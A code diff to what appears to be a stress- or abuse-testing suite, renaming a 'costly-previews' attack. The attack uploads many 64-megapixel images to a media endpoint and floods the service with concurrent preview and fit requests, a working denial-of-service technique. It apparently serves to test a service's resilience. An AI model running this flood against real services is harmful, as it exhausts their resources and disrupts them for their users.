@@ -2,7 +2,7 @@ import { crc32, deflateSync } from 'node:zlib';
 import type { Attack, AttackTarget } from './attack.ts';
 import { flood } from './requests.ts';
 
-const PICTURES = 60;
+const IMAGES = 60;
 /** Number of files in one upload. */
 const FILES = 10;
 const WIDTHS = [160, 320, 640, 1280];
@@ -13,9 +13,9 @@ const PREVIEWS = 200;
 const FITS = 20;
 
 /** Requests previews of images that each take a second to decode, and more fits than the service lets wait. */
-export const pictures: Attack = {
-  name: 'pictures',
-  about: `${PREVIEWS} requests at once for previews of ${PICTURES} pictures of 64 megapixels, and ${FITS} for files that fit a network, again and again`,
+export const costlyPreviews: Attack = {
+  name: 'costly-previews',
+  about: `${PREVIEWS} requests at once for previews of ${IMAGES} images of 64 megapixels, and ${FITS} for files that fit a network, again and again`,
   async prepare(target) {
     const { root, attackers } = target;
     const [attacker] = attackers;
@@ -34,18 +34,15 @@ export const pictures: Attack = {
 };
 
 /** Stores copies of the image, and returns their ids. */
-async function storeAll(
-  { root, attackers: [attacker] }: AttackTarget,
-  picture: Uint8Array,
-): Promise<readonly string[]> {
+async function storeAll({ root, attackers: [attacker] }: AttackTarget, image: Uint8Array): Promise<readonly string[]> {
   const ids: string[] = [];
-  while (ids.length < PICTURES) {
+  while (ids.length < IMAGES) {
     const form = new FormData();
-    for (let nth = 0; nth < FILES; nth++) form.append('files[]', new Blob([Buffer.from(picture)]), `${nth}.png`);
+    for (let nth = 0; nth < FILES; nth++) form.append('files[]', new Blob([Buffer.from(image)]), `${nth}.png`);
     const headers = { Authorization: `Bearer ${attacker.token}` };
     const url = `${root}/v1/workspaces/${attacker.workspace}/media_contents`;
     const response = await fetch(url, { method: 'POST', headers, body: form });
-    if (response.status !== 201) throw new Error(`The pictures were answered with ${response.status}.`);
+    if (response.status !== 201) throw new Error(`The images were answered with ${response.status}.`);
     const { data } = (await response.json()) as { readonly data: readonly { readonly id: string }[] };
     ids.push(...data.map(({ id }) => id));
   }
